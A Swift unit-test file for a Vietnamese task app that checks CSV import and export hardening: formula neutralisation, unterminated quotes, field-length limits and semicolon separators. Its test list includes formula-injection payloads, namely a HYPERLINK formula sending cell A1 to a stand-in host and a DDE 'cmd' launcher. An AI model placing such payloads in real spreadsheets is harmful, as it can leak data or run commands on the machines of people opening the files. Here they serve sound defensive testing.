@testable import DanVanTasks
import DanVanText
import XCTest

/// Hostile CSV: formulas on export, unterminated quotes and huge fields on import, `;` separators.
final class CSVHardeningTests: StoreTestCase {
    private func importing(_ text: String, into target: TaskStore? = nil, named name: String = "phu-luc.csv") throws -> ImportReport {
        let url = try TestSupport.write(text, named: name, in: dir, bom: false)
        return try (target ?? store).importCSV(at: url, vocabulary: TestSupport.vocabulary, resolveUnit: TestSupport.resolver,
                                               today: today, user: "lan")
    }

    static let formulas = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "  =1+1", "\t=1+1 sau tab", "'=đã có nháy", "''+hai nháy",
    ]

    func testFormulaCellsAreNeutralisedOnExport() throws {
        for title in Self.formulas + ["Họp dân", "'ý kiến", "a=b", "Dự toán - 2025"] {
            let exported = FormulaGuard.neutralize(title)
            let lead = exported.unicodeScalars.first(where: { $0 != " " && $0 != "\t" })
            XCTAssertFalse(["=", "+", "-", "@"].contains(lead.map(Character.init) ?? " "), exported)
            XCTAssertNotEqual(exported.unicodeScalars.first, "\t")
            XCTAssertEqual(FormulaGuard.restore(exported), title, "round trip of \(title.debugDescription)")
        }
        XCTAssertEqual(FormulaGuard.neutralize("Họp dân"), "Họp dân")
        XCTAssertEqual(FormulaGuard.neutralize("@SUM(A1)"), "'@SUM(A1)")
        XCTAssertEqual(FormulaGuard.restore("'ý kiến"), "'ý kiến")
    }

    func testExportThenImportGivesBackTheSameTitles() throws {
        for (i, title) in Self.formulas.enumerated() {
            _ = try store.add(TaskDraft(title: title, unit: "Phòng Kinh tế", note: i.isMultiple(of: 2) ? "=ghi chú \(i)" : nil),
                              user: "lan", at: Date())
        }
        let stored = try store.export(format: .json, today: today)
        let csv = try store.export(format: .csv, today: today)
        for line in csv.split(separator: "\r\n").dropFirst() {
            let cells = try CSVRecordReader.records(in: String(line))[0].fields
            XCTAssertNotNil(cells.first)
        }
        XCTAssertFalse(csv.contains(",=HYPERLINK"), csv)
        XCTAssertFalse(csv.contains(",@SUM"), csv)
        XCTAssertTrue(csv.contains("'@SUM(A1:A9)"), csv)
        let other = try TaskStore(path: dir.appendingPathComponent("other.sqlite").path)
        var text = csv
        if text.hasPrefix("\u{FEFF}") { text.removeFirst() }
        let report = try importing(text, into: other)
        let exported = try JSONSerialization.jsonObject(with: Data(stored.utf8)) as? [String: Any]
        let original = exported?["tasks"] as? [[String: Any]] ?? []
        XCTAssertEqual(report.added.map(\.title), original.compactMap { $0["title"] as? String })
        XCTAssertEqual(report.added.map(\.title), Self.formulas.map { TaskStore.clean($0) })
        XCTAssertEqual(report.added.first?.note, "=ghi chú 0")
    }

    func testUnterminatedQuoteNamesItsLineAndImportsNothing() throws {
        var rows = ["STT,Nội dung nhiệm vụ,Đơn vị chủ trì"]
        for i in 1...50 { rows.append(i == 26 ? "\(i),\"Nhiệm vụ \(i) chưa đóng ngoặc,Phòng Kinh tế" : "\(i),Nhiệm vụ \(i),Phòng Kinh tế") }
        XCTAssertThrowsError(try importing(rows.joined(separator: "\r\n") + "\r\n")) {
            XCTAssertEqual($0 as? TaskImportError, .unterminatedQuote(path: "phu-luc.csv", line: 27))
            XCTAssertTrue(TaskErrorWording.message(for: $0).contains("dòng 27"), TaskErrorWording.message(for: $0))
        }
        XCTAssertThrowsError(try importing("Nhiệm vụ\nHọp\n\"mở mà không đóng\n")) {
            XCTAssertEqual($0 as? TaskImportError, .unterminatedQuote(path: "phu-luc.csv", line: 3))
        }
        XCTAssertEqual(try store.count(matching: TaskFilter(), today: today), 0)
    }

    func testFieldLongerThanTheLimitNamesItsRow() throws {
        let long = String(repeating: "ạ", count: CSVRecordReader.fieldLimit + 1)
        XCTAssertThrowsError(try importing("Nhiệm vụ,Ghi chú\nHọp,ngắn\nHọp 2,\(long)\n")) {
            XCTAssertEqual($0 as? TaskImportError, .fieldTooLong(path: "phu-luc.csv", line: 3, limit: 2_000))
            let message = TaskErrorWording.message(for: $0)
            XCTAssertTrue(message.contains("dòng 3") && message.contains("2.000 ký tự"), message)
        }
        let huge = String(repeating: "x", count: 5_000_000)
        XCTAssertThrowsError(try importing("Nhiệm vụ\n\"\(huge)\"\n")) {
            XCTAssertEqual($0 as? TaskImportError, .fieldTooLong(path: "phu-luc.csv", line: 2, limit: 2_000))
        }
        let exactly = String(repeating: "ạ", count: CSVRecordReader.fieldLimit)
        XCTAssertEqual(try importing("Nhiệm vụ\n\(exactly)\n").added.first?.title.count, 2_000)
    }

    func testSemicolonSeparatedFileIsRead() throws {
        let csv = "# Ví dụ; có chú thích, dấu phẩy\r\nSTT;Nội dung nhiệm vụ;Đơn vị chủ trì;Hạn\r\n1;\"Tuyên truyền; vận động, họp\";Phòng Kinh tế;20/10/2025\r\n2;Rà soát;Phòng VHXH;\r\n"
        let report = try importing(csv)
        XCTAssertEqual(report.added.map(\.title), ["Tuyên truyền; vận động, họp", "Rà soát"])
        XCTAssertEqual(report.added.map(\.unit), ["Phòng Kinh tế", "Phòng Văn hóa - Xã hội"])
        XCTAssertEqual(CSVRecordReader.detectSeparator("a,b;c,d\n"), ",")
        XCTAssertEqual(CSVRecordReader.detectSeparator("\n#x,y,z\n\"a,b\";c;d\n"), ";")
    }
}
